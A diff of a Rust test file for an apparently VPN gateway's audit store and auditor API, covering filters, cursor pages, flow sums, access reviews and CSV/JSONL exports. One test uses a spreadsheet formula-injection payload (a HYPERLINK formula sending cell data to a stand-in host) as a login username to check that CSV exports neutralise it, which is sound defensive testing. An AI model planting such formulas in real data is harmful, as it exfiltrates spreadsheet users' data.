@@ -1,10 +1,15 @@
 //! Audit queries on SQLite AND PostgreSQL: indexed filters over the data-plane event shapes,
 //! keyset pages, flows to a resource, the access review, the migration 0003 backfill.
 
+#![allow(clippy::unwrap_used)]
+
 mod common {
     pub mod postgres;
+    pub mod slapd;
     pub mod store_db;
 }
+#[path = "portal_common/harness.rs"]
+mod harness;
 
 use std::net::Ipv4Addr;
 
@@ -59,10 +64,24 @@ fn session_ended(device: i64, user: &str, start: i64, end: i64) -> NewAuditEvent
 }
 
 /// A `flow.allowed` window: `bytes` split 1/4 out, 3/4 in; packets = bytes / 100.
-fn flow(device: Option<i64>, user: Option<&str>, resource: &str, at: i64, bytes: u64) -> NewAuditEvent {
+fn flow(
+    device: Option<i64>,
+    user: Option<&str>,
+    resource: &str,
+    at: i64,
+    bytes: u64,
+) -> NewAuditEvent {
     let (ctx, target, peer) = match (device, user) {
-        (Some(d), Some(u)) => (device_ctx(u), format!("device:{d}"), format!("device:{d}:{u}")),
-        _ => (AuditContext::system(), "peer:supervision".to_string(), "static:supervision".to_string()),
+        (Some(d), Some(u)) => (
+            device_ctx(u),
+            format!("device:{d}"),
+            format!("device:{d}:{u}"),
+        ),
+        _ => (
+            AuditContext::system(),
+            "peer:supervision".to_string(),
+            "static:supervision".to_string(),
+        ),
     };
     NewAuditEvent::new(Action::FlowAllowed, &ctx, target).details(json!({
         "device_id": device, "username": user, "peer": peer, "resource": resource,
@@ -75,13 +94,17 @@ fn flow(device: Option<i64>, user: Option<&str>, resource: &str, at: i64, bytes:
 }
 
 fn denied(device: i64, user: &str) -> NewAuditEvent {
-    NewAuditEvent::new(Action::FlowDenied, &device_ctx(user), format!("device:{device}"))
-        .outcome(Outcome::Denied)
-        .details(json!({
-            "device_id": device, "username": user, "peer": format!("device:{device}:{user}"),
-            "dst": "198.18.30.1", "protocol": "tcp", "port": 22, "count": 3, "reason": "no_grant",
-            "window_start": rfc3339_ms(T0), "first_seen": rfc3339_ms(T0), "last_seen": rfc3339_ms(T0),
-        }))
+    NewAuditEvent::new(
+        Action::FlowDenied,
+        &device_ctx(user),
+        format!("device:{device}"),
+    )
+    .outcome(Outcome::Denied)
+    .details(json!({
+        "device_id": device, "username": user, "peer": format!("device:{device}:{user}"),
+        "dst": "198.18.30.1", "protocol": "tcp", "port": 22, "count": 3, "reason": "no_grant",
+        "window_start": rfc3339_ms(T0), "first_seen": rfc3339_ms(T0), "last_seen": rfc3339_ms(T0),
+    }))
 }
 
 fn ids(events: &[sesame::audit::AuditEvent]) -> Vec<i64> {
@@ -99,29 +122,84 @@ async fn filters_find_data_plane_events_by_derived_keys(db: Db) {
         &AuditContext::new("alice", Some("198.18.0.5".into())),
         "alice",
     );
-    let overflow = NewAuditEvent::new(Action::AuditOverflow, &AuditContext::system(), "audit_queue")
-        .outcome(Outcome::Failure)
-        .details(json!({"lost": {"flow.allowed": 3}, "since": rfc3339_ms(T0), "until": rfc3339_ms(T0)}));
+    let overflow = NewAuditEvent::new(
+        Action::AuditOverflow,
+        &AuditContext::system(),
+        "audit_queue",
+    )
+    .outcome(Outcome::Failure)
+    .details(
+        json!({"lost": {"flow.allowed": 3}, "since": rfc3339_ms(T0), "until": rfc3339_ms(T0)}),
+    );
     let events = [
-        (T0, login),                                           // 1
-        (T0 + MIN, session_started(7, "alice", T0 + MIN)),     // 2
+        (T0, login),                                                    // 1
+        (T0 + MIN, session_started(7, "alice", T0 + MIN)),              // 2
         (T0 + 2 * MIN, flow(Some(7), Some("alice"), "paie", T0, 1000)), // 3
         (T0 + 2 * MIN, flow(Some(8), Some("bob"), "paie", T0, 400)),    // 4
-        (T0 + 3 * MIN, flow(None, None, "paie", T0, 100)),     // 5 static peer
-        (T0 + 3 * MIN, denied(8, "bob")),                      // 6
-        (T0 + 4 * MIN, overflow),                              // 7
-        (T0 + 5 * MIN, session_ended(7, "alice", T0 + MIN, T0 + 5 * MIN)), // 8
+        (T0 + 3 * MIN, flow(None, None, "paie", T0, 100)),              // 5 static peer
+        (T0 + 3 * MIN, denied(8, "bob")),                               // 6
+        (T0 + 4 * MIN, overflow),                                       // 7
+        (
+            T0 + 5 * MIN,
+            session_ended(7, "alice", T0 + MIN, T0 + 5 * MIN),
+        ), // 8
     ];
     s.append_audit_bulk(&events).await.expect("bulk");
     let by = |f: AuditFilter| list(s, f);
-    assert_eq!(by(AuditFilter { user: Some("alice".into()), ..Default::default() }).await, [1, 2, 3, 8]);
-    assert_eq!(by(AuditFilter { user: Some("bob".into()), ..Default::default() }).await, [4, 6]);
-    assert_eq!(by(AuditFilter { device: Some(7), ..Default::default() }).await, [2, 3, 8]);
-    assert_eq!(by(AuditFilter { resource: Some("paie".into()), ..Default::default() }).await, [3, 4, 5]);
-    assert_eq!(by(AuditFilter { outcome: Some(Outcome::Denied), ..Default::default() }).await, [6]);
-    assert_eq!(by(AuditFilter { outcome: Some(Outcome::Failure), ..Default::default() }).await, [7]);
     assert_eq!(
-        by(AuditFilter { source_ip: Some("198.18.0.5".into()), ..Default::default() }).await,
+        by(AuditFilter {
+            user: Some("alice".into()),
+            ..Default::default()
+        })
+        .await,
+        [1, 2, 3, 8]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            user: Some("bob".into()),
+            ..Default::default()
+        })
+        .await,
+        [4, 6]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            device: Some(7),
+            ..Default::default()
+        })
+        .await,
+        [2, 3, 8]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            resource: Some("paie".into()),
+            ..Default::default()
+        })
+        .await,
+        [3, 4, 5]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            outcome: Some(Outcome::Denied),
+            ..Default::default()
+        })
+        .await,
+        [6]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            outcome: Some(Outcome::Failure),
+            ..Default::default()
+        })
+        .await,
+        [7]
+    );
+    assert_eq!(
+        by(AuditFilter {
+            source_ip: Some("198.18.0.5".into()),
+            ..Default::default()
+        })
+        .await,
         [1]
     );
     assert_eq!(
@@ -136,7 +214,12 @@ async fn filters_find_data_plane_events_by_derived_keys(db: Db) {
         [4]
     );
     assert_eq!(
-        by(AuditFilter { action: Some("tunnel.session_ended".into()), user: Some("alice".into()), ..Default::default() }).await,
+        by(AuditFilter {
+            action: Some("tunnel.session_ended".into()),
+            user: Some("alice".into()),
+            ..Default::default()
+        })
+        .await,
         [8]
     );
     // The index columns are outside the hashed content: the bulk path chained correctly.
@@ -145,8 +228,18 @@ async fn filters_find_data_plane_events_by_derived_keys(db: Db) {
         AuditVerification::Intact { events: 8 }
     );
     // A single append fills the same columns as the bulk path.
-    s.append_audit(&flow(Some(7), Some("alice"), "rh", T0, 10)).await.expect("append");
-    assert_eq!(by(AuditFilter { resource: Some("rh".into()), device: Some(7), ..Default::default() }).await, [9]);
+    s.append_audit(&flow(Some(7), Some("alice"), "rh", T0, 10))
+        .await
+        .expect("append");
+    assert_eq!(
+        by(AuditFilter {
+            resource: Some("rh".into()),
+            device: Some(7),
+            ..Default::default()
+        })
+        .await,
+        [9]
+    );
 }
 
 async fn keyset_pages_cover_everything_once(db: Db) {
@@ -154,11 +247,17 @@ async fn keyset_pages_cover_everything_once(db: Db) {
     let events: Vec<(i64, NewAuditEvent)> = (0..1_234)
         .map(|i| {
             let who = ["alice", "bob", "carol"][i % 3];
-            (T0 + i as i64, flow(Some((i % 3) as i64 + 1), Some(who), "paie", T0, 100))
+            (
+                T0 + i as i64,
+                flow(Some((i % 3) as i64 + 1), Some(who), "paie", T0, 100),
+            )
         })
         .collect();
     s.append_audit_bulk(&events).await.expect("bulk");
-    let filter = AuditFilter { user: Some("bob".into()), ..Default::default() };
+    let filter = AuditFilter {
+        user: Some("bob".into()),
+        ..Default::default()
+    };
     let (mut after, mut seen, mut pages) = (None, Vec::new(), 0);
     loop {
         let (page, next) = s.audit_page(&filter, after, 100).await.expect("page");
@@ -177,7 +276,14 @@ async fn keyset_pages_cover_everything_once(db: Db) {
     assert_eq!(seen, want);
     // Exactly one page's worth: no empty trailing page is announced.
     let (page, next) = s
-        .audit_page(&AuditFilter { device: Some(1), ..Default::default() }, None, 412)
+        .audit_page(
+            &AuditFilter {
+                device: Some(1),
+                ..Default::default()
+            },
+            None,
+            412,
+        )
         .await
         .expect("page");
     assert_eq!((page.len(), next), (412, None));
@@ -188,30 +294,64 @@ async fn flows_sum_a_resource_per_device_in_a_range(db: Db) {
     let march = T0; // the range: [T0, T0 + 30 days)
     let end = T0 + 30 * 24 * 60 * MIN;
     let events = [
-        (march - MIN, flow(Some(7), Some("alice"), "paie", march - 2 * MIN, 9_999)), // before
-        (march + MIN, flow(Some(7), Some("alice"), "paie", march, 1_000)),
-        (march + 2 * MIN, flow(Some(8), Some("bob"), "paie", march + MIN, 400)),
-        (march + 3 * MIN, flow(Some(7), Some("alice"), "rh", march + 2 * MIN, 5_000)), // other resource
-        (march + 4 * MIN, flow(Some(7), Some("alice"), "paie", march + 3 * MIN, 2_000)),
-        (march + 5 * MIN, flow(None, None, "paie", march + 4 * MIN, 100)),
+        (
+            march - MIN,
+            flow(Some(7), Some("alice"), "paie", march - 2 * MIN, 9_999),
+        ), // before
+        (
+            march + MIN,
+            flow(Some(7), Some("alice"), "paie", march, 1_000),
+        ),
+        (
+            march + 2 * MIN,
+            flow(Some(8), Some("bob"), "paie", march + MIN, 400),
+        ),
+        (
+            march + 3 * MIN,
+            flow(Some(7), Some("alice"), "rh", march + 2 * MIN, 5_000),
+        ), // other resource
+        (
+            march + 4 * MIN,
+            flow(Some(7), Some("alice"), "paie", march + 3 * MIN, 2_000),
+        ),
+        (
+            march + 5 * MIN,
+            flow(None, None, "paie", march + 4 * MIN, 100),
+        ),
         (end, flow(Some(8), Some("bob"), "paie", end, 7_777)), // until is excluded
     ];
     s.append_audit_bulk(&events).await.expect("bulk");
-    let flows = s.flows("paie", Some(march), Some(end)).await.expect("flows");
+    let flows = s
+        .flows("paie", Some(march), Some(end))
+        .await
+        .expect("flows");
     assert_eq!(flows.len(), 3, "{flows:?}");
     let alice = &flows[0];
-    assert_eq!((alice.username.as_deref(), alice.device_id), (Some("alice"), Some(7)));
+    assert_eq!(
+        (alice.username.as_deref(), alice.device_id),
+        (Some("alice"), Some(7))
+    );
     assert_eq!(alice.peer, "device:7:alice");
     assert_eq!(alice.first_seen, march + 1_000);
     assert_eq!(alice.last_seen, march + 3 * MIN + 50_000);
     assert_eq!((alice.bytes, alice.packets, alice.windows), (3_000, 30, 2));
     assert_eq!((alice.bytes_out, alice.bytes_in), (750, 2_250));
     let bob = &flows[1];
-    assert_eq!((bob.username.as_deref(), bob.bytes, bob.windows), (Some("bob"), 400, 1));
+    assert_eq!(
+        (bob.username.as_deref(), bob.bytes, bob.windows),
+        (Some("bob"), 400, 1)
+    );
     let peer = &flows[2];
     assert_eq!((peer.username.as_deref(), peer.device_id), (None, None));
-    assert_eq!((peer.peer.as_str(), peer.bytes), ("static:supervision", 100));
-    assert!(s.flows("paie", Some(end + MIN), None).await.expect("empty").is_empty());
+    assert_eq!(
+        (peer.peer.as_str(), peer.bytes),
+        ("static:supervision", 100)
+    );
+    assert!(s
+        .flows("paie", Some(end + MIN), None)
+        .await
+        .expect("empty")
+        .is_empty());
 }
 
 fn resource(name: &str) -> Resource {
@@ -236,14 +376,27 @@ async fn access_review_says_who_through_which_group_and_grant(db: Db) {
     for (i, u) in [&alice, &alice, &bob, &carol].into_iter().enumerate() {
         let code = code_for(&db, &u.username, &format!("pc-{i}")).await;
         let k = key(u8::try_from(i + 1).expect("small"));
-        dev.push(enrol(&db, &code, u, k, "100.64.0.0/24").await.expect("enrol").device);
+        dev.push(
+            enrol(&db, &code, u, k, "100.64.0.0/24")
+                .await
+                .expect("enrol")
+                .device,
+        );
     }
     // Alice's second laptop is revoked: not listed.
-    s.revoke_device(dev[1].id, "lost", &it_staff()).await.expect("revoke");
+    s.revoke_device(dev[1].id, "lost", &it_staff())
+        .await
+        .expect("revoke");
     let mut policy = Policy::new([resource("paie"), resource("rh")]);
-    policy.grant(RH_GROUP, &["rh".to_string()]).expect("grant 1");
-    policy.grant(PAIE_GROUP, &["paie".to_string()]).expect("grant 2");
-    policy.grant(&PAIE_GROUP.to_uppercase(), &["paie".to_string()]).expect("grant 3");
+    policy
+        .grant(RH_GROUP, &["rh".to_string()])
+        .expect("grant 1");
+    policy
+        .grant(PAIE_GROUP, &["paie".to_string()])
+        .expect("grant 2");
+    policy
+        .grant(&PAIE_GROUP.to_uppercase(), &["paie".to_string()])
+        .expect("grant 3");
     let peers = [StaticPeer {
         name: "supervision".into(),
         public_key: [9; 32],
@@ -252,13 +405,23 @@ async fn access_review_says_who_through_which_group_and_grant(db: Db) {
         persistent_keepalive: None,
     }];
     let vpn_users = [VPN_GROUP.to_string()];
-    let cfg = ReviewPolicy { policy: &policy, vpn_users: &vpn_users, static_peers: &peers };
+    let cfg = ReviewPolicy {
+        policy: &policy,
+        vpn_users: &vpn_users,
+        static_peers: &peers,
+    };
     let d0 = dev[0].id;
     s.append_audit_bulk(&[
         (T0, session_started(d0, "alice", T0)),
         (T0 + MIN, flow(Some(d0), Some("alice"), "paie", T0, 1_000)),
-        (T0 + 2 * MIN, flow(Some(d0), Some("alice"), "paie", T0 + MIN, 2_000)),
-        (T0 + 3 * MIN, flow(Some(d0), Some("alice"), "rh", T0 + 2 * MIN, 3_000)),
+        (
+            T0 + 2 * MIN,
+            flow(Some(d0), Some("alice"), "paie", T0 + MIN, 2_000),
+        ),
+        (
+            T0 + 3 * MIN,
+            flow(Some(d0), Some("alice"), "rh", T0 + 2 * MIN, 3_000),
+        ),
         (T0 + 4 * MIN, session_ended(d0, "alice", T0, T0 + 4 * MIN)),
     ])
     .await
@@ -270,20 +433,33 @@ async fn access_review_says_who_through_which_group_and_grant(db: Db) {
     assert_eq!(review.resource.as_deref(), Some("paie"));
     assert_eq!(review.entries.len(), 2, "{:#?}", review.entries);
     let peer = &review.entries[0];
-    assert_eq!((peer.device_id, peer.device_name.as_str()), (None, "supervision"));
+    assert_eq!(
+        (peer.device_id, peer.device_name.as_str()),
+        (None, "supervision")
+    );
     assert_eq!(peer.via[0].peer.as_deref(), Some("supervision"));
     let a = &review.entries[1];
-    assert_eq!((a.username.as_deref(), a.device_id), (Some("alice"), Some(d0)));
+    assert_eq!(
+        (a.username.as_deref(), a.device_id),
+        (Some("alice"), Some(d0))
+    );
     assert_eq!(a.tunnel_address, dev[0].tunnel_address.to_string());
     assert_eq!(a.via.len(), 1);
     assert_eq!(a.via[0].group.as_deref(), Some(PAIE_GROUP));
-    assert_eq!(a.via[0].grants, [2, 3], "both [[grant]] sections that give paie");
+    assert_eq!(
+        a.via[0].grants,
+        [2, 3],
+        "both [[grant]] sections that give paie"
+    );
     let session = a.last_session.as_ref().expect("session");
     assert_eq!(session.action, "tunnel.session_ended");
     assert_eq!(session.at, rfc3339_ms(T0 + 4 * MIN));
     assert_eq!(session.reason.as_deref(), Some("expired"));
     let last = a.last_flow.as_ref().expect("flow");
-    assert_eq!((last.bytes, last.last_seen.as_str()), (2_000, rfc3339_ms(T0 + MIN + 50_000).as_str()));
+    assert_eq!(
+        (last.bytes, last.last_seen.as_str()),
+        (2_000, rfc3339_ms(T0 + MIN + 50_000).as_str())
+    );
 
     // The reverse: what alice can reach, and why.
     let review = access_review(s, &cfg, &ReviewSubject::User("alice".into()))
@@ -292,12 +468,22 @@ async fn access_review_says_who_through_which_group_and_grant(db: Db) {
     let got: Vec<(&str, Vec<usize>)> = review
         .entries
         .iter()
-        .map(|e| (e.resource.as_str(), e.via.iter().flat_map(|v| v.grants.clone()).collect()))
+        .map(|e| {
+            (
+                e.resource.as_str(),
+                e.via.iter().flat_map(|v| v.grants.clone()).collect(),
+            )
+        })
         .collect();
     assert_eq!(got, [("paie", vec![2, 3]), ("rh", vec![1])]);
-    assert_eq!(review.entries[1].last_flow.as_ref().map(|f| f.bytes), Some(3_000));
+    assert_eq!(
+        review.entries[1].last_flow.as_ref().map(|f| f.bytes),
+        Some(3_000)
+    );
     // Bob reaches rh only; nobody reaches an unknown resource (an error, not an empty list).
-    let bob_review = access_review(s, &cfg, &ReviewSubject::User("bob".into())).await.expect("bob");
+    let bob_review = access_review(s, &cfg, &ReviewSubject::User("bob".into()))
+        .await
+        .expect("bob");
     assert_eq!(bob_review.entries.len(), 1);
     assert_eq!(bob_review.entries[0].last_session, None);
     let e = access_review(s, &cfg, &ReviewSubject::Resource("compta".into()))
@@ -332,8 +518,10 @@ async fn migration_0003_backfills_index_columns_by_the_same_rule() {
         NewAuditEvent::new(Action::DirectorySync, &AuditContext::system(), "directory"),
     ];
     {
-        let opts: sqlx::sqlite::SqliteConnectOptions =
-            url.parse::<sqlx::sqlite::SqliteConnectOptions>().expect("url").create_if_missing(true);
+        let opts: sqlx::sqlite::SqliteConnectOptions = url
+            .parse::<sqlx::sqlite::SqliteConnectOptions>()
+            .expect("url")
+            .create_if_missing(true);
         let pool = sqlx::SqlitePool::connect_with(opts).await.expect("old db");
         sqlx::migrate::Migrator::new(old.as_path())
             .await
@@ -387,16 +575,411 @@ async fn migration_0003_backfills_index_columns_by_the_same_rule() {
         .fetch_one(store.pool())
         .await
         .expect("row");
-        assert_eq!(row, (want.username, want.device_id, want.resource), "event {}", i + 1);
+        assert_eq!(
+            row,
+            (want.username, want.device_id, want.resource),
+            "event {}",
+            i + 1
+        );
     }
     assert_eq!(
         store.verify_audit().await.expect("verify"),
-        AuditVerification::Intact { events: samples.len() as u64 }
+        AuditVerification::Intact {
+            events: samples.len() as u64
+        }
     );
     // The backfilled columns serve the filters, and the log stays append-only.
-    assert_eq!(list(&store, AuditFilter { device: Some(12), ..Default::default() }).await, [5]);
-    assert!(sqlx::query("UPDATE audit_events SET username = 'x' WHERE id = 1")
-        .execute(store.pool())
+    assert_eq!(
+        list(
+            &store,
+            AuditFilter {
+                device: Some(12),
+                ..Default::default()
+            }
+        )
+        .await,
+        [5]
+    );
+    assert!(
+        sqlx::query("UPDATE audit_events SET username = 'x' WHERE id = 1")
+            .execute(store.pool())
+            .await
+            .is_err()
+    );
+}
+
+/// Auditor API: filters, cursor pages, streamed CSV (neutralised) and JSONL (verbatim), flows,
+/// access review, bad parameters; and the events it must produce: auth.logout,
+/// auth.rate_limited, failed device.rotated, audit.read, quiet directory.sync.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn api_queries_exports_and_the_events_they_need() {
+    use harness::{error_of, laptop_key, Harness};
+    use serde_json::Value;
+    use sesame::store::ManualClock;
+    use std::sync::Arc;
+
+    const FORMULA: &str = r#"=HYPERLINK("https://x/?"&A2;"x")"#;
+    let h = Harness::start().await;
+    let auditor = h.login("cgarnier").await;
+    let it = h.login("tleroux").await;
+    let code = h.code_for(&it, "mdupont", "portable-marie").await;
+    let (key, _) = laptop_key();
+    let cfg: Value = h.enrol(&code, "mdupont", &key).await.json().await.unwrap();
+    let device_id = cfg["device_id"].as_i64().unwrap();
+    let token = cfg["device_token"].as_str().unwrap().to_string();
+
+    // A refused rotation (the gateway's own key) is audited with its reason.
+    let gw = base64_of(&harness::GATEWAY_KEY);
+    let r = reqwest::Client::new()
+        .post(h.url("/api/v1/device/rotate"))
+        .bearer_auth(&token)
+        .json(&json!({"public_key": gw}))
+        .send()
         .await
-        .is_err());
+        .unwrap();
+    assert_eq!(error_of(r).await, (400, "invalid_public_key".into()));
+    let failed = one(&h.store, "device.rotated").await;
+    assert_eq!(failed.outcome, Outcome::Failure);
+    assert_eq!(
+        (failed.actor.as_str(), failed.target.clone()),
+        ("mdupont", format!("device:{device_id}"))
+    );
+    assert_eq!(failed.source_ip.as_deref(), Some("127.0.0.1"));
+    assert_eq!(failed.details["reason"], "invalid_public_key");
+    assert_eq!(failed.details["username"], "mdupont");
+    assert_eq!(failed.details["old_public_key"], key.as_str());
+
+    // Logout closes the session and is audited.
+    let r = it.post(h.url("/api/v1/logout")).send().await.unwrap();
+    assert_eq!(r.status(), 204);
+    let logout = one(&h.store, "auth.logout").await;
+    assert_eq!(
+        (logout.actor.as_str(), logout.target.as_str()),
+        ("tleroux", "tleroux")
+    );
+    assert_eq!(
+        (logout.outcome, logout.source_ip.as_deref()),
+        (Outcome::Success, Some("127.0.0.1"))
+    );
+    assert!(logout.details["session_started_at"]
+        .as_str()
+        .unwrap()
+        .ends_with('Z'));
+    // A second logout with the dead cookie records nothing more.
+    it.post(h.url("/api/v1/logout")).send().await.unwrap();
+    assert_eq!(count(&h.store, "auth.logout").await, 1);
+
+    // A failed login with a formula as username, then failures until the address is limited.
+    let login = |user: &'static str| {
+        let url = h.url("/api/v1/login");
+        async move {
+            reqwest::Client::new()
+                .post(url)
+                .json(&json!({"username": user, "password": "faux"}))
+                .send()
+                .await
+                .unwrap()
+        }
+    };
+    assert_eq!(login(FORMULA).await.status(), 401);
+    for _ in 0..4 {
+        assert_eq!(login("mdupont").await.status(), 401);
+    }
+    assert_eq!(
+        error_of(login("mdupont").await).await,
+        (429, "too_many_attempts".into())
+    );
+    let limited = one(&h.store, "auth.rate_limited").await;
+    assert_eq!(
+        (limited.actor.as_str(), limited.target.as_str()),
+        ("mdupont", "mdupont")
+    );
+    assert_eq!(
+        (limited.outcome, limited.source_ip.as_deref()),
+        (Outcome::Denied, Some("127.0.0.1"))
+    );
+    assert_eq!(limited.details["route"], "login");
+    assert_eq!(limited.details["key"], "ip:127.0.0.1");
+    assert_eq!(limited.details["keys"], json!(["ip:127.0.0.1"]));
+    assert!(limited.details["retry_after_secs"].as_u64().unwrap() >= 1);
+
+    // JSON pages with a cursor: 7 logins (2 successes, 5 failures), 2 per page.
+    let get = |path: String| {
+        let c = auditor.clone();
+        let url = h.url(&path);
+        async move { c.get(url).send().await.unwrap() }
+    };
+    let (mut cursor, mut seen, mut pages, mut cursors) = (String::new(), Vec::new(), 0, Vec::new());
+    loop {
+        let page: Value = get(format!(
+            "/api/v1/audit/events?action=auth.login&limit=2&cursor={cursor}"
+        ))
+        .await
+        .json()
+        .await
+        .unwrap();
+        pages += 1;
+        for e in page["events"].as_array().unwrap() {
+            seen.push(e["id"].as_i64().unwrap());
+        }
+        match page["next_cursor"].as_str() {
+            Some(c) => {
+                cursor = c.to_string();
+                cursors.push(cursor.clone());
+            }
+            None => break,
+        }
+    }
+    let stored = ids(&h
+        .store
+        .list_audit(&AuditFilter {
+            action: Some("auth.login".into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap());
+    assert_eq!((seen.len(), pages), (7, 4));
+    assert_eq!(seen, stored);
+
+    // CSV: the formula is neutralised; JSONL: verbatim, and each line re-hashes to its hash.
+    let r = get("/api/v1/audit/events?format=csv&action=auth.login&outcome=denied".into()).await;
+    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
+    let body = r.text().await.unwrap();
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(body.as_bytes())
+        .records()
+        .map(|r| r.unwrap())
+        .collect();
+    assert_eq!(rows.len(), 5);
+    assert_eq!(&rows[0][2], format!("'{FORMULA}"), "actor cell neutralised");
+    assert_eq!(
+        &rows[0][4],
+        format!("'{FORMULA}"),
+        "target cell neutralised"
+    );
+    assert_eq!(&rows[1][2], "mdupont");
+    let r = get("/api/v1/audit/events?format=jsonl&action=auth.login&outcome=denied".into()).await;
+    let body = r.text().await.unwrap();
+    let lines: Vec<Value> = body
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 5);
+    assert_eq!(lines[0]["actor"], FORMULA);
+    for l in &lines {
+        let e = sesame::audit::AuditEvent {
+            id: l["id"].as_i64().unwrap(),
+            ts: sesame::store::parse_rfc3339(l["ts"].as_str().unwrap()).unwrap(),
+            actor: l["actor"].as_str().unwrap().into(),
+            action: l["action"].as_str().unwrap().into(),
+            target: l["target"].as_str().unwrap().into(),
+            outcome: Outcome::parse(l["outcome"].as_str().unwrap()).unwrap(),
+            source_ip: l["source_ip"].as_str().map(str::to_string),
+            details: l["details"].clone(),
+            prev_hash: l["prev_hash"].as_str().unwrap().into(),
+            hash: l["hash"].as_str().unwrap().into(),
+        };
+        assert_eq!(e.compute_hash(), e.hash, "line {} verifies", e.id);
+    }
+
+    // Every query above was audited: who, which query, which filter.
+    let reads = h
+        .store
+        .list_audit(&AuditFilter {
+            action: Some("audit.read".into()),
+            user: Some("cgarnier".into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    assert_eq!(reads.len(), 4 + 2, "4 pages, 2 exports");
+    let export = &reads[4];
+    assert_eq!(
+        (export.target.as_str(), export.source_ip.as_deref()),
+        ("audit:export", Some("127.0.0.1"))
+    );
+    assert_eq!(
+        export.details,
+        json!({"query": "export", "format": "csv", "filter": {"action": "auth.login", "outcome": "denied"}})
+    );
+    // The second page's read names the cursor it was given.
+    assert_eq!(reads[1].details["filter"]["cursor"], cursors[0].as_str());
+    assert_eq!(
+        reads[0].details,
+        json!({"query": "events", "format": "json", "filter": {"action": "auth.login"}})
+    );
+
+    // Flows and access review through the API.
+    let t = h.store.now_ms();
+    h.store
+        .append_audit_bulk(&[
+            (
+                t,
+                flow(Some(device_id), Some("mdupont"), "paie", t - 120_000, 4_000),
+            ),
+            (
+                t,
+                flow(Some(device_id), Some("mdupont"), "paie", t - 60_000, 1_000),
+            ),
+            (
+                t,
+                flow(Some(device_id), Some("mdupont"), "rh", t - 60_000, 1_000),
+            ),
+        ])
+        .await
+        .unwrap();
+    let v: Value = get("/api/v1/audit/flows?resource=paie&since=2000-01-01".into())
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(v["resource"], "paie");
+    assert_eq!(v["flows"].as_array().unwrap().len(), 1);
+    assert_eq!(v["flows"][0]["username"], "mdupont");
+    assert_eq!(v["flows"][0]["device_id"], device_id);
+    assert_eq!(
+        (
+            v["flows"][0]["bytes"].as_u64(),
+            v["flows"][0]["windows"].as_u64()
+        ),
+        (Some(5_000), Some(2))
+    );
+    let csv_text = get("/api/v1/audit/flows?resource=paie&format=csv".into())
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(csv_text.starts_with(
+        "username,device_id,peer,first_seen,last_seen,bytes,packets,bytes_out,bytes_in,windows\n"
+    ));
+    assert!(csv_text.contains(&format!("mdupont,{device_id},device:{device_id}:mdupont,")));
+    let v: Value = get("/api/v1/audit/access-review?resource=paie".into())
+        .await
+        .json()
+        .await
+        .unwrap();
+    let entries = v["entries"].as_array().unwrap();
+    assert_eq!(entries.len(), 1, "{v}");
+    assert_eq!(entries[0]["username"], "mdupont");
+    assert_eq!(entries[0]["device_name"], "portable-marie");
+    assert_eq!(
+        entries[0]["via"][0]["group"]
+            .as_str()
+            .map(str::to_lowercase)
+            .as_deref(),
+        Some("cn=gestionnaires-paie,ou=groups,dc=academie,dc=test")
+    );
+    assert_eq!(entries[0]["via"][0]["grants"], json!([1]));
+    assert_eq!(entries[0]["last_flow"]["bytes"], 1_000);
+    let v: Value = get("/api/v1/audit/access-review?user=mdupont".into())
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(v["user"], "mdupont");
+    assert_eq!(v["entries"].as_array().unwrap().len(), 1, "paie only: {v}");
+    let csv_text = get("/api/v1/audit/access-review?resource=paie&format=csv".into())
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(csv_text.starts_with("resource,username,display_name,device_id,"));
+    let reads = h
+        .store
+        .list_audit(&AuditFilter {
+            action: Some("audit.read".into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    let last = reads.last().unwrap();
+    assert_eq!(
+        (last.actor.as_str(), last.target.as_str()),
+        ("cgarnier", "audit:access_review")
+    );
+    assert_eq!(
+        last.details,
+        json!({"query": "access_review", "format": "csv", "filter": {"resource": "paie"}})
+    );
+    assert!(reads.iter().any(|e| e.details == json!({"query": "flows", "format": "json", "filter": {"resource": "paie", "since": "2000-01-01"}})));
+
+    // Bad parameters: clear errors, stable codes.
+    for (path, status, code) in [
+        ("/api/v1/audit/events?cursor=garbage", 400, "invalid_cursor"),
+        ("/api/v1/audit/events?limit=10001", 400, "invalid_limit"),
+        ("/api/v1/audit/events?since=hier", 400, "invalid_time"),
+        (
+            "/api/v1/audit/events?action=auth.nope",
+            400,
+            "unknown_action",
+        ),
+        ("/api/v1/audit/events?format=xml", 400, "invalid_format"),
+        ("/api/v1/audit/events?bogus=1", 400, "bad_request"),
+        ("/api/v1/audit/flows", 400, "bad_request"),
+        (
+            "/api/v1/audit/access-review",
+            400,
+            "resource_or_user_required",
+        ),
+        (
+            "/api/v1/audit/access-review?resource=paie&user=x",
+            400,
+            "resource_or_user_required",
+        ),
+        (
+            "/api/v1/audit/access-review?resource=compta",
+            404,
+            "unknown_resource",
+        ),
+    ] {
+        assert_eq!(
+            error_of(get(path.into()).await).await,
+            (status, code.into()),
+            "{path}"
+        );
+    }
+
+    // Directory sync: a pass that changes nothing is recorded, at most once per hour.
+    h.sync().sync_once().await.unwrap();
+    h.sync().sync_once().await.unwrap();
+    assert_eq!(count(&h.store, "directory.sync").await, 1);
+    let quiet = one(&h.store, "directory.sync").await;
+    assert_eq!(
+        quiet.details,
+        json!({"checked": 1, "groups_changed": 0, "devices_revoked": 0, "changed": false})
+    );
+    let mut later = h.sync();
+    later.store = h.store.clone().with_clock(Arc::new(ManualClock::new(
+        h.store.now_ms() + 3_600_000 + 1_000,
+    )));
+    later.sync_once().await.unwrap();
+    assert_eq!(count(&h.store, "directory.sync").await, 2);
+}
+
+fn base64_of(k: &[u8; 32]) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD.encode(k)
+}
+
+async fn count(store: &Store, action: &str) -> usize {
+    store
